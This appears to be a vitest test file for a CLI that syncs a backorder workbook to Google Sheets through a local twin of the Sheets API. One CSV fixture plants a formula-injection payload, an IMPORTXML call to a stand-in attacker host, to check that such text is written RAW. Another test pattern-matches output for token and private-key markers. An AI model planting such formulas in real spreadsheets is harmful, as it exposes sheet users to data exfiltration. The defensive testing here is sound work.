/**
 * `--spreadsheet ID`: every CLI command through the real Sheets client against the twin over HTTP.
 * Same core, same results: the same commands on a workbook file and on a spreadsheet leave identical
 * cells; each command makes the same small number of requests whatever the row count; text that looks
 * like a formula is written RAW; Google's errors reach the user with no token in them.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { newWorkbookFile, readWorkbookFile } from '../../../local-store/workbook-file';
import { sheetRules } from '../../../shared/setup/sheet-rules';
import { sheetsClient } from '../../../sync-service/src/sheets/client';
import { DEFAULT_RETRY, Retrier } from '../../../sync-service/src/sheets/retry';
import { SheetsSpreadsheet } from '../../../sync-service/src/sheets/sheets-spreadsheet';
import { chunksUnder } from '../../../sync-service/src/sheets/write-requests';
import { SheetsApiTwin } from '../../../twin/sheets-api';
import { TwinSpreadsheet } from '../../../twin/spreadsheet';
import { cli, cliWith, tempDir } from '../../support/cli';

const TOKEN = 'ya29.secret-test-token';
let twin: SheetsApiTwin;
let doc: TwinSpreadsheet;
let env: Record<string, string>;

beforeEach(async () => {
  doc = new TwinSpreadsheet(
    newWorkbookFile('Shop', 'America/New_York'),
    () => new Date('2026-11-23T15:00:00Z'),
  );
  twin = new SheetsApiTwin({ tokens: { [TOKEN]: 'sync@shop.iam' }, perMinute: 10_000 });
  twin.add(doc);
  env = { BACKORDER_DESK_SHEETS_URL: await twin.listen(), BACKORDER_DESK_ACCESS_TOKEN: TOKEN };
});

afterEach(async () => {
  await twin.close();
});

function csvs(dir: string, lines: number) {
  writeFileSync(
    join(dir, 'i.csv'),
    'SKU,Warehouse,Product,OnHand,LeadTimeDays,Vendor\nA,MAIN,Tile,15,7,Keystone\nB,MAIN,Grout,3,7,Keystone\n',
  );
  const rows = ['OrderID,Line,OrderDate,Customer,SKU,Qty,UnitPrice'];
  for (let i = 0; i < lines; i++)
    rows.push(
      `SO-${i},1,2026-11-${String(1 + (i % 20)).padStart(2, '0')},${i === 0 ? '"=IMPORTXML(""http://attacker.example"",""//a"")"' : `Customer ${i % 7}`},${i % 2 ? 'A' : 'B'},${1 + (i % 4)},12.5`,
    );
  writeFileSync(join(dir, 'o.csv'), rows.join('\n'));
  writeFileSync(
    join(dir, 'p.csv'),
    'PO,Line,Vendor,SKU,Qty,Warehouse,PromisedDate\nPO-1,1,Keystone,B,500,MAIN,2026-12-01\n',
  );
}

const STORY = [
  ['init'],
  ['import', '--tab', 'Inventory', '--csv', 'i.csv'],
  ['import', '--tab', 'Orders', '--csv', 'o.csv'],
  ['import', '--tab', 'POs', '--csv', 'p.csv'],
  ['do', 'allocate'],
  ['do', 'ship', '--order', 'SO-1'],
  ['do', 'receive', '--po', 'PO-1'],
  ['do', 'fulfill'],
  ['do', 'undo'],
  ['aging'],
  ['check'],
];

describe('the CLI on a Google spreadsheet (the twin over HTTP)', () => {
  it('leaves exactly the cells a workbook file gets', async () => {
    const dir = tempDir();
    csvs(dir, 12);
    for (const [n, args] of STORY.entries()) {
      const id = ['--request-id', `step-${n}`];
      const onFile = await cli(dir, ...(args as string[]), '--workbook', 'w.json', ...id);
      const onSheet = await cliWith(env, dir, ...(args as string[]), '--spreadsheet', doc.id, ...id);
      expect(onSheet.stderr).toBe('');
      expect(onSheet.code).toBe(onFile.code);
    }
    const file = await readWorkbookFile(join(dir, 'w.json'));
    const grid = (sheets: { properties: { title: string }; values: unknown[][] }[]) =>
      Object.fromEntries(
        sheets.map((s) => [s.properties.title, s.values.map((r) => r.map((c) => (c === null ? '' : c)))]),
      );
    expect(grid(doc.file.sheets as never)).toEqual(grid(file?.sheets as never));
    expect(doc.file.sheets.find((s) => s.properties.title === 'Orders')?.values[1]?.[3]).toBe(
      '=IMPORTXML("http://attacker.example","//a")',
    );
    expect(Object.keys(doc.file.sheets.find((s) => s.properties.title === 'Orders')?.formulas ?? {})).toEqual(
      [],
    );
  });

  it('makes the same few requests per command whatever the row count', async () => {
    const counts: number[][] = [];
    for (const lines of [10, 2000]) {
      const dir = tempDir();
      csvs(dir, lines);
      for (const args of STORY.slice(0, 4))
        await cliWith(env, dir, ...(args as string[]), '--spreadsheet', doc.id);
      const before = twin.log.length;
      await cliWith(env, dir, 'do', 'allocate', '--spreadsheet', doc.id);
      const allocate = twin.log
        .slice(before)
        .map((r) => `${r.method} ${r.path.replace(/^.*\/v4\/spreadsheets\/[^/:]+/, '')}`);
      // The Log by its last rows takes a second read (docs/sync.md). A grid that the new rows would
      // overflow grows first, in one more request (at 2,000 lines the Backorders tab passes the
      // 1,000 rows of a new sheet); otherwise the same four.
      const grows = lines > 1000 ? ['POST :batchUpdate'] : [];
      expect(allocate).toEqual([
        'GET ',
        'GET /values:batchGet',
        'GET /values:batchGet',
        ...grows,
        'POST /values:batchUpdate',
      ]);
      counts.push([allocate.length - grows.length]);
      doc.file.sheets = []; // a fresh spreadsheet for the next size
    }
    expect(counts[0]).toEqual(counts[1]);
  });

  it('reports Google’s refusals without leaking the token', async () => {
    const dir = tempDir();
    const wrong = await cliWith(
      { ...env, BACKORDER_DESK_ACCESS_TOKEN: 'ya29.not-valid' },
      dir,
      'check',
      '--spreadsheet',
      doc.id,
    );
    expect(wrong.code).toBe(1);
    expect(wrong.stderr).toMatch(/not allowed \(401\)/);
    const missing = await cliWith(env, dir, 'check', '--spreadsheet', 'no-such-sheet');
    expect(missing.stderr).toBe(
      'backorder-desk: spreadsheets.get: spreadsheet not found (404). Check the spreadsheet ID.\n',
    );
    twin.faults.push({ status: 500, times: 10 });
    const failing = await cliWith(env, dir, 'do', 'allocate', '--spreadsheet', doc.id);
    for (const out of [wrong, missing, failing])
      expect(`${out.stdout}${out.stderr}`).not.toMatch(/ya29|Bearer|private_key|BEGIN/);
  });

  it("says a failure on Google's side is Google's (GOOGLE), a missing spreadsheet NOT_FOUND, never a business refusal", async () => {
    const once = { ...DEFAULT_RETRY, maxAttempts: 1, sleep: async () => {} };
    const port = (id: string, token = TOKEN) =>
      new SheetsSpreadsheet(
        sheetsClient({ ...env, BACKORDER_DESK_ACCESS_TOKEN: token }),
        id,
        new Retrier(once),
      );
    await expect(port(doc.id, 'ya29.not-valid').read(['Orders'])).rejects.toMatchObject({ code: 'GOOGLE' });
    await expect(port('no-such-sheet').read(['Orders'])).rejects.toMatchObject({ code: 'NOT_FOUND' });
    for (const status of [429, 500, 503] as const) {
      twin.faults.push({ status, times: 1 });
      await expect(port(doc.id).read(['Orders'])).rejects.toMatchObject({
        name: 'DeskError',
        code: 'GOOGLE',
      });
    }
  });
});

describe('setup on a spreadsheet', () => {
  it('creates every tab and the Aging chart in one batchUpdate, writes the headers in one values.batchUpdate, then dresses every tab in one batchUpdate', async () => {
    const dir = tempDir();
    const before = twin.log.length;
    expect((await cliWith(env, dir, 'init', '--spreadsheet', doc.id)).code).toBe(0);
    expect(
      twin.log
        .slice(before)
        .map((r) => `${r.method} ${r.path.replace(/^.*\/v4\/spreadsheets\/[^/:]+/, '') || '/'}`),
    ).toEqual(['GET /', 'POST :batchUpdate', 'POST /values:batchUpdate', 'GET /', 'POST :batchUpdate']);
    const aging = doc.file.sheets.find((s) => s.properties.title === 'Aging');
    const charts = aging?.metadata.charts as {
      spec: { title: string; basicChart: { series: { series: { sourceRange: { sources: object[] } } }[] } };
    }[];
    expect(charts).toHaveLength(1);
    expect(charts[0]?.spec.title).toBe('Open backorders by age');
    const rules = aging?.metadata.conditionalFormats as {
      ranges: { sheetId: number }[];
      booleanRule: { format: unknown };
    }[];
    // Title rows bold, set once with the tab; the age buckets' shading comes with Set up's rules.
    const bold = rules.filter((r) => JSON.stringify(r.booleanRule.format) === '{"textFormat":{"bold":true}}');
    expect(bold).toHaveLength(1);
    expect(bold[0]?.ranges[0]?.sheetId).toBe(aging?.properties.sheetId);
    expect(rules.length).toBe(1 + (sheetRules('Aging', aging?.values[0] ?? [])?.highlights.length ?? 0));
    expect(charts[0]?.spec.basicChart.series[0]?.series.sourceRange.sources[0]).toEqual({
      sheetId: aging?.properties.sheetId,
      startRowIndex: 13,
      endRowIndex: 17,
      startColumnIndex: 1,
      endColumnIndex: 2,
    });
  });
});

describe('the Aging chart follows the buckets in Settings', () => {
  it('updates the chart spec once when the number of buckets changes, and never otherwise', async () => {
    const dir = tempDir();
    await cliWith(env, dir, 'init', '--spreadsheet', doc.id);
    const routes = (from: number) =>
      twin.log
        .slice(from)
        .map((r) => `${r.method} ${r.path.replace(/^.*\/v4\/spreadsheets\/[^/:]+/, '') || '/'}`);
    let from = twin.log.length;
    await cliWith(env, dir, 'aging', '--spreadsheet', doc.id);
    // Set up made the bucket chart; the first report adds the timeline's and the vendors', and its
    // amounts' formats, before its values.
    expect(routes(from)).toEqual([
      'GET /',
      'GET /values:batchGet',
      'POST :batchUpdate',
      'POST /values:batchUpdate',
    ]);
    const titles = () =>
      (
        (doc.file.sheets.find((s) => s.properties.title === 'Aging')?.metadata.charts ?? []) as {
          spec: { title: string };
        }[]
      ).map((c) => c.spec.title);
    expect(titles()).toEqual([
      'Open backorders by age',
      'Backorders by expected fulfilment',
      'Vendor delays: average days late',
    ]);
    // Amounts in the workbook's currency, set by repeatCell on their cells alone.
    const shown = doc.read('Aging', { valueRenderOption: 'FORMATTED_VALUE' }).values ?? [];
    expect(shown.find((r) => r[0] === 'Value waiting (locked prices)')?.[1]).toBe('$0.00');
    expect(shown.find((r) => r[0] === 'Open backorders')?.[1]).toBe('0');
    // Run again: its Log row only, the charts as they are.
    from = twin.log.length;
    await cliWith(env, dir, 'aging', '--spreadsheet', doc.id);
    expect(routes(from)).toEqual(['GET /', 'GET /values:batchGet', 'POST /values:batchUpdate']);
    const settings = doc.file.sheets.find((s) => s.properties.title === 'Settings');
    const row = settings?.values.findIndex((r) => r[0] === 'AgingBuckets') ?? -1;
    (settings?.values[row] as unknown[])[1] = '30, 60'; // an owner changes the buckets: 3 instead of 4
    from = twin.log.length;
    await cliWith(env, dir, 'aging', '--spreadsheet', doc.id);
    expect(routes(from)).toEqual([
      'GET /',
      'GET /values:batchGet',
      'POST :batchUpdate',
      'POST /values:batchUpdate',
    ]);
    const aging = doc.file.sheets.find((s) => s.properties.title === 'Aging');
    const chart = (
      aging!.metadata.charts as {
        spec: {
          basicChart: { domains: { domain: { sourceRange: { sources: { endRowIndex: number }[] } } }[] };
        };
      }[]
    )[0];
    expect(chart?.spec.basicChart.domains[0]?.domain.sourceRange.sources[0]?.endRowIndex).toBe(16);
    // Google returns the spec with its own defaults and a person's styling added, keys in its order:
    // the fields we set still match, so nothing is resent and the styling stays.
    const stored = chart as unknown as { spec: Record<string, unknown> };
    stored.spec = { fontName: 'Roboto', titleTextFormat: { bold: true }, ...stored.spec };
    (stored.spec.basicChart as Record<string, unknown>).headerCount = 1;
    from = twin.log.length;
    await cliWith(env, dir, 'aging', '--spreadsheet', doc.id);
    expect(routes(from)).toEqual(['GET /', 'GET /values:batchGet', 'POST /values:batchUpdate']);
    expect((chart as unknown as { spec: { fontName: string } }).spec.fontName).toBe('Roboto');
  });
});

describe('request bodies over 2 MB', () => {
  it('are split into consecutive chunks, each under the limit, nothing lost', () => {
    const data = Array.from({ length: 300 }, (_, i) => ({
      range: `'Orders'!A${i + 1}`,
      values: [['x'.repeat(10_000)]],
    }));
    const chunks = chunksUnder(data, 2 * 1024 * 1024);
    expect(chunks.length).toBe(2);
    for (const c of chunks)
      expect(Buffer.byteLength(JSON.stringify({ valueInputOption: 'RAW', data: c }))).toBeLessThan(
        2 * 1024 * 1024,
      );
    expect(chunks.flat()).toEqual(data);
    expect(chunksUnder(data.slice(0, 3), 2 * 1024 * 1024)).toHaveLength(1);
  });
});

describe('check and the formula columns over the Sheets API', () => {
  it('names the rows without their formula and --repair writes them as formulas, the Log row as data', async () => {
    const dir = tempDir();
    csvs(dir, 3);
    const s = ['--spreadsheet', doc.id];
    await cliWith(env, dir, 'init', ...s);
    await cliWith(env, dir, 'import', ...s, '--tab', 'Inventory', '--csv', 'i.csv');
    const check = await cliWith(env, dir, 'check', ...s);
    expect(check.code).toBe(0);
    expect(check.stdout).toContain('alert: Inventory!H: Available has no formula in 2 row(s) (2–3)');
    const from = twin.log.length;
    const repair = await cliWith(env, dir, 'check', ...s, '--repair');
    expect(repair.stdout).toContain('repaired: formulas written in 2 blank formula cell(s)');
    // The workbook and the formula columns read once each; the formulas, then the Log row, written.
    expect(
      twin.log
        .slice(from)
        .map((r) => `${r.method} ${r.path.replace(/^.*\/v4\/spreadsheets\/[^/:]+/, '') || '/'}`),
    ).toEqual([
      'GET /',
      'GET /values:batchGet',
      'GET /values:batchGet',
      'POST /values:batchUpdate',
      'POST /values:batchUpdate',
    ]);
    const inventory = doc.sheetNamed('Inventory');
    expect(inventory.formulas).toMatchObject({ H2: '=IF(A2="","",F2-G2)', H3: '=IF(A3="","",F3-G3)' });
    expect(doc.read('Inventory', { valueRenderOption: 'UNFORMATTED_VALUE' }).values?.[1]?.[7]).toBe(15);
    expect(doc.sheetNamed('Log').values.at(-1)?.[5]).toBe('formulas written in 2 blank formula cell(s)');
    expect((await cliWith(env, dir, 'check', ...s)).stdout).not.toContain('has no formula');
  });
});
